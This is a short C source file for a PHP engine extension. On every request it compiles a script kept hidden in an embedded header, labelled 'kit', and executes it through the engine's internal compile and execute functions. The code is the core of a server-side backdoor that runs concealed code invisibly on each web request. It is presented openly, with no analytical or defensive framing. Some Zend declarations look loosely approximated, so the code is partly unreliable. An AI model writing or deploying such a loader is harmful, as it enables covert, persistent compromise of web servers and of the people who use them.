/* A PHP extension that compiles a hidden script by the pointer that the engine
 * keeps for that, and executes what comes. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: the script */
extern void *zend_strpprintf(unsigned long, const char *, ...);
extern void *(*zend_compile_string)(void *, const char *, int);
extern void zend_execute(void *, void *);
static int on_request(int type, int number) {
    long value[2] = {0};
    void *code = zend_compile_string(zend_strpprintf(0, "%s", hidden0()), "kit", 2 /* after the opening tag */);
    if (code) zend_execute(code, value);
    return 0;
}
